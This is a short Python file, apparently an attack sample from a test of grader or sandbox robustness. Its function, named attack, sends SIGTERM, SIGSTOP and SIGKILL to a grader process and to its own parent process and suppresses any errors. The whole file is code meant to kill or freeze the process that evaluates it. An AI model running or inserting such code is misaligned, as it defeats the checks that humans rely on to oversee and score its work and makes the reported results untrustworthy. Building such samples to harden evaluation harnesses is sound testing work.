"""Sends signals to the grader and its parent.

Aim: process
"""

import os
import signal


def attack(*args, **kwargs):
    for pid in (GRADER, os.getppid()):
        for kind in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, kind)
            except OSError:
                pass
    return None
